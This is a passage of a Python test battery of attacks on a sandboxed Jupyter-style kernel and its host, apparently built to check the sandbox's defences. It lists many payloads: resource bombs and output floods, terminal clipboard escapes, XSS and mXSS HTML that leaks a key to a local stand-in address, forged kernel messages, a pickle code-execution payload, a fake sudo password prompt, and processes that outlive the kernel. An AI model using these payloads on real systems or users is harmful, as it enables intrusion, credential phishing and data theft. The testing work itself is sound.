        seconds=0.5,
        raw=True,
    ),
    Attack(
        "bombs",
        "hold the interpreter in one long call",
        "sum(range(10**12))",
        lambda world, ran: world.find_spinning(),
        seconds=0.5,
        raw=True,
    ),
    Attack(
        "bombs",
        "die without a word",
        "import os; os._exit(3)",
        lambda world, ran: not ran.ended,
        seconds=4,
        raw=True,
    ),
    Attack(
        "bombs",
        "crash the interpreter",
        "import ctypes; ctypes.string_at(0)",
        lambda world, ran: not ran.ended,
        seconds=4,
        raw=True,
    ),
]

FLOOD, LARGE = 8 << 20, 20 << 20  # the battery sets the limit at 4 MiB
FLOODS = [
    Attack(
        "outputs",
        "flood the host with text",
        f"line = 'x' * 99\nfor i in range({FLOOD} // 100): print(line)",
        lambda world, ran: sum(len(str(o)) for o in ran.outputs) > FLOOD * 3 // 4,
        seconds=30,
    ),
    Attack(
        "outputs",
        "flood the host with one text",
        f"print('x' * {LARGE})",
        lambda world, ran: sum(len(str(o)) for o in ran.outputs) >= LARGE,
        seconds=30,
    ),
    Attack(
        "outputs",
        "flood the host with displays",
        "for i in range(600): bundle(**{'text/plain': str(i)})",
        lambda world, ran: len(ran.outputs) > 500,
        seconds=40,
    ),
    Attack(
        "outputs",
        "flood the host with a display that is too large",
        f"bundle(**{{'text/plain': 'x' * {LARGE}}})",
        lambda world, ran: any(len(str(o)) > FLOOD // 2 for o in ran.outputs),
        seconds=30,
    ),
    Attack(
        "outputs",
        "flood the host with an error that is too large",
        f"raise ValueError('x' * {LARGE})",
        lambda world, ran: any(len(str(o)) > FLOOD // 2 for o in ran.outputs),
        seconds=30,
    ),
    Attack(
        "outputs",
        "set the title and the clipboard of a terminal",
        r"print('\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07shown')",
        shows(r"\\u001b\]"),
    ),
    Attack(
        "outputs",
        "hide such a sequence in an error",
        r"raise ValueError('\x1b]52;c;b3duZWQ=\x07')",
        shows(r"\\u001b\]"),
    ),
    Attack(
        "outputs",
        "hide such a sequence in a display",
        r"bundle(**{'text/plain': '\x9d52;c;b3duZWQ=\x9c\x1b]0;owned\x07'})",
        shows(r"\\u001b\]|\\x9d|\x9d"),
    ),
    Attack(
        "outputs",
        "write the user's next cell",
        "get_ipython().set_next_input('import os; os.system(\"owned\")')",
        lambda world, ran: "owned" in ran.shown,
    ),
    Attack(
        "outputs",
        "close the user's console",
        "get_ipython().payload_manager.write_payload({'source': 'ask_exit', 'keepkernel': False})",
        lambda world, ran: "ask_exit" in ran.shown,
    ),
    Attack(
        "outputs",
        "open the user's pager",
        "from IPython.core import page\nget_ipython().payload_manager.write_payload({'source': 'page', 'data': {'text/html': '<script>owned</script>'}, 'start': 0})",
        lambda world, ran: "owned" in ran.shown,
    ),
    Attack(
        "outputs",
        "ask the user for a password",
        "get_ipython().kernel._allow_stdin = True\ninput('Password for sudo:')",
        lambda world, ran: "sudo" in ran.shown,
        seconds=1,
    ),
]

BROWSER = [
    _html("run a script element", "<b>shown</b><script>owned()</script>", "<script"),
    _html("run an event handler", "<img src=x onerror='owned()'>", "onerror"),
    _html("run a javascript: link", "<a href='javascript:owned()'>shown</a>", "javascript:"),
    _html("frame another page", "<iframe src='http://127.0.0.1:1/'></iframe>shown", "<iframe"),
    _html(
        "frame a page of its own", "<iframe srcdoc='&lt;script&gt;owned()'></iframe>shown", "srcdoc"
    ),
    _html(
        "fetch a picture, and leak by its address",
        "<img src='http://127.0.0.1:1/?key'>shown",
        "http://",
    ),
    _html(
        "fetch by a style",
        "<b style='background:url(http://127.0.0.1:1/?key)'>shown</b>",
        "http://",
    ),
    _html(
        "fetch by a style sheet",
        "<style>@import 'http://127.0.0.1:1/';</style><b>shown</b>",
        "@import|<style",
    ),
    _html(
        "fetch by a link element", "<link rel=prefetch href='http://127.0.0.1:1/'>shown", "<link"
    ),
    _html(
        "run a script in an SVG inside HTML",
        "<svg onload='owned()'><script>owned()</script></svg>shown",
        "<svg|owned",
    ),
    _html(
        "press a command of JupyterLab's",
        "<button data-commandlinker-command='notebook:run-cell'>shown</button>",
        "data-commandlinker",
    ),
    _html(
        "send a form",
        "<form action='http://127.0.0.1:1/'><input name=password></form>shown",
        "<form|<input",
    ),
    _html(
        "redirect the page",
        "<meta http-equiv=refresh content='0;url=http://127.0.0.1:1/'>shown",
        "<meta",
    ),
    _html(
        "cover the page",
        "<div style='position:fixed;inset:0;z-index:9999'>shown</div>",
        "position: ?fixed",
    ),
    _html(
        "slip through a parser (mXSS)",
        "<math><mtext><table><mglyph><style><img src=x onerror=owned()></style>shown",
        "onerror=|<math",
    ),
    _html("run JavaScript as such", "owned()", "owned", "application/javascript"),
    _html(
        "show a widget",
        "{}",
        r'"application/vnd.jupyter.widget-view\+json":',
        "application/vnd.jupyter.widget-view+json",
    ),
    _html(
        "show an SVG with a script",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>owned()</script></svg>",
        "owned",
        "image/svg+xml",
    ),
    _html(
        "show a Vega chart that fetches",
        '{"data": {"url": "http://127.0.0.1:1/"}}',
        "127.0.0.1",
        "application/vnd.vegalite.v5+json",
    ),
    _html(
        "show a Vega chart whose cursor is fetched",
        '{"mark": {"type": "bar", "cursor": "url(http://127.0.0.1:1/)"}, "data": {"values": []}}',
        "127.0.0.1",
        "application/vnd.vegalite.v5+json",
    ),
    _html(
        "have a Vega chart compute by a format of its own",
        '{"config": {"customFormatTypes": true, "numberFormatType": "owned"}}',
        "customFormatTypes",
        "application/vnd.vegalite.v5+json",
    ),
    _html(
        "fetch a picture from Markdown",
        "shown ![x](http://127.0.0.1:1/?key)",
        r"!\[x\]\(http",
        "text/markdown",
    ),
    _html("put HTML into Markdown", "shown <img src=x onerror=owned()>", "<img", "text/markdown"),
    _html(
        "draw a Mermaid diagram that fetches",
        "```mermaid\ngraph TD; A[\"<img src='http://127.0.0.1:1/'>\"]\n```",
        "```mermaid\\\\n",
        "text/markdown",
    ),
    _html(
        "put a link into LaTeX", r"$\href{javascript:owned()}{shown}$", r"\$\\\\href", "text/latex"
    ),
    _html("put HTML into a picture's data", '"><script>owned()</script>', "<script", "image/png"),
    Attack(
        "browser",
        "have its output trusted",
        "from IPython.display import display\ndisplay({'text/plain': 'shown'}, raw=True, metadata={'trusted': True, 'isolated': True})",
        shows("trusted"),
    ),
]

MESSAGES = [
    _message(
        "break the host with an unsigned message",
        "send([b'topic', b'<IDS|MSG>', b'', *[b'{}'] * 4])",
    ),
    _message(
        "break the host with a bad signature",
        "send([b'topic', b'<IDS|MSG>', b'0' * 64, *[b'{}'] * 4])",
    ),
    _message(
        "break the host with a message sent again",
        "frames = signed(header('stream'), parent(), {}, {'name': 'stdout', 'text': 'once'})\nsend(frames)\nsend(frames)",
    ),
    _message("break the host with too few frames", "send([b'topic', b'<IDS|MSG>', b'x'])"),
    _message("break the host without a delimiter", "send([b'topic', b'x', b'y'])"),
    _message("break the host with what is no JSON", "send(signed(b'{', b'{', b'{', b'{'))"),
    _message(
        "break the host with what is no text", "send(signed(b'\\xff\\xfe', b'{}', b'{}', b'{}'))"
    ),
    _message("break the host with a list as header", "send(signed([1], {}, {}, {}))"),
    _message("break the host with an empty header", "send(signed({}, {}, {}, {}))"),
    _message(
        "break the host with null as parent",
        "send(signed(header('stream'), None, {}, {'name': 'stdout', 'text': 'x'}))",
    ),
    _message(
        "break the host with text as content",
        "send(signed(header('stream'), parent(), {}, 'text'))",
    ),
    _message(
        "break the host with a stream without text",
        "send(signed(header('stream'), parent(), {}, {'name': 'stdout'}))",
    ),
    _message(
        "break the host with a status without state",
        "send(signed(header('status'), parent(), {}, {}))",
    ),
    _message(
        "break the host with numbers as text",
        "send(signed(header('stream'), parent(), {}, {'name': 3, 'text': 4}))",
        plain="nbformat does not check them",
    ),
    _message(
        "break the host with a display without data",
        "send(signed(header('display_data'), parent(), {}, {}))",
    ),
    _message(
        "break the host with data that is a list",
        "send(signed(header('display_data'), parent(), {}, {'data': [1], 'metadata': 1}))",
    ),
    _message(
        "break the host with brackets nested 100,000 deep",
        "deep = b'[' * 100_000 + b']' * 100_000\nsend(signed(header('stream'), parent(), {}, deep))",
    ),
    _message(
        "break the host with brackets nested 900 deep",
        "deep = b'{\"data\": {\"application/json\": ' + b'[' * 900 + b']' * 900 + b'}, \"metadata\": {}}'\nsend(signed(header('display_data'), parent(), {}, deep))",
        plain="nbformat takes them; what saves the notebook fails later",
    ),
    _message(
        "break the host with a number of 10,000 digits",
        "send(signed(header('stream'), parent(), {}, b'9' * 10_000))",
    ),
    _message(
        "break the host with a date that is none",
        "send(signed(header('stream', date=[1]), parent(), {}, {'name': 'stdout', 'text': 'x'}))",
        plain="dates are not checked",
    ),
    _message(
        "break the host with a message type that is a list",
        "send(signed(header('stream') | {'msg_type': [1]}, parent(), {}, {}))",
    ),
    _message(
        "break the host with lone surrogates",
        "send(signed(header('stream'), parent(), {}, {'name': 'stdout', 'text': '\\ud800'}))",
        plain="they break what saves the notebook, later",
    ),
    _message(
        "end its cell early with a forged idle",
        "send(signed(header('status'), parent(), {}, {'execution_state': 'idle'}))\ntime.sleep(.1)\nprint('hidden')",
        plain="it hides no words but its own",
    ),
    Attack(
        "messages",
        "send a message of 100 MB",
        "send(signed(header('stream'), parent(), {}, {'name': 'stdout', 'text': 'x' * 100_000_000}))\ntime.sleep(1)",
        swells,
        seconds=20,
    ),
    Attack(
        "messages",
        "run code where the host unpickles",
        "send(signed(header('comm_msg'), parent(), {}, {'comm_id': 'x', 'data': {}}, [b\"cos\\nmkdir\\n(S'\" + W.outside.encode() + b\"/owned'\\ntR.\"]))",
        files_changed,
        plain="Jupyter's client unpickles nothing",
    ),
    Attack(
        "messages",
        "write into the cell after it, by a forged parent",
        "old = parent()\nstem, _, count = old['msg_id'].rpartition('_')\n"
        "frames = [signed(header('stream'), old | {'msg_id': f'{stem}_{int(count) + n % 3 + 1}'}, {}, "
        "{'name': 'stdout', 'text': 'FORGED'}) for n in range(300)]\n"
        "def later():\n    for each in frames:\n        get_ipython().kernel.iopub_thread.send_multipart(each)\n"
        "        time.sleep(.001)\n"
        "threading.Thread(target=later).start()",
        leaks_into_the_next_cell,
    ),
    Attack(
        "messages",
        "write into the cell after it, from a thread",
        "def later():\n    time.sleep(.05)\n    for _ in range(40):\n        send(signed(header('stream'), before, {}, {'name': 'stdout', 'text': 'FORGED'}))\n"
        "before = parent()\nthreading.Thread(target=later).start()",
        leaks_into_the_next_cell,
        plain="a client matches parents too",
    ),
]

CLOSING = [
    Attack(
        "closing",
        "outlive its kernel in a session of its own",
        "subprocess.Popen(['sh', '-c', 'sleep 60; exit', W.mark], start_new_session=True)",
        lambda world, ran: world.find_left_processes(),
        closing=True,
    ),
    Attack(
        "closing",
        "hang as it exits",
        "import atexit\natexit.register(time.sleep, 600)",
        lambda world, ran: ran.seconds > 1.5 or ran.alive,
        closing=True,
    ),
    Attack(
        "closing",
        "have the host delete what a link leads to",
        "os.symlink(W.outside, 'out')\nos.symlink(W.outside, os.path.expanduser('~/out') if 'agent' in os.path.expanduser('~') else 'out2')",
        files_changed,
        closing=True,
        plain="nothing is cleaned up after it",
    ),
    Attack(
        "closing",
        "leave a folder that cannot be deleted",
        "os.mkdir('locked', 0o300)\nopen('locked/file', 'w').write('x')\nos.mkdir('locked/inner', 0o300)\nopen('locked/inner/file', 'w').write('x')",
        lambda world, ran: bool(ran.left or ran.raised),
        closing=True,
        plain="nothing is cleaned up after it",
    ),
    Attack(
        "closing",
        "leave folders too deep to delete",
        "here = os.getcwd()\nfor _ in range(600):\n    os.mkdir('d')\n    os.chdir('d')\nos.chdir(here)",
        lambda world, ran: bool(ran.left or ran.raised),
        closing=True,
        plain="nothing is cleaned up after it",
        seconds=20,
    ),
]

ATTACKS = [
    *FILES, *ENVIRONMENT, *PROC, *NETWORK, *PROCESSES, *PRIVILEGES, *CALLS, *BOMBS, *FLOODS,
    *BROWSER, *MARKDOWN, *MESSAGES, *CLOSING, *SYSTEM_CALLS, *CONFINEMENT, *SHARING, *FLOODING,
]  # fmt: skip
